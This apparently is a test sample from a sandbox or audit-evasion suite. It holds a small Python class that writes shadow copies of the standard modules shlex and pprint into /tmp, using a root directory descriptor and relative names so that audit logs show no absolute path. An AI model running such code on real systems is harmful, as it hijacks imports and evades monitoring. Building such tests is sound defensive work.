FAMILY = "F2"
DESCRIPTION = "Plants /tmp/shlex.py and /tmp/pprint.py with dir_fd of '/' and the relative names 'tmp/shlex.py' (no audit-visible absolute path)."
CLASS = "RootPlanter"
CODE = r'''
import os

class RootPlanter:
    def __init__(self, init_config=None):
        self.n = 0

    def plant(self):
        """Write modules into tmp/ relative to a descriptor of the root directory."""
        root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        for name, body in (("tmp/shlex.py", "def quote(s):\n    return 'OWNED'\n"),
                           ("tmp/pprint.py", "def pformat(o, *a, **k):\n    return 'OWNED'\n")):
            fd = os.open(name, os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o644, dir_fd=root)
            os.write(fd, body.encode())
            os.close(fd)
            self.n += 1
        return {"success": True, "data": self.n}
'''
ACTIONS = [("plant", {})]
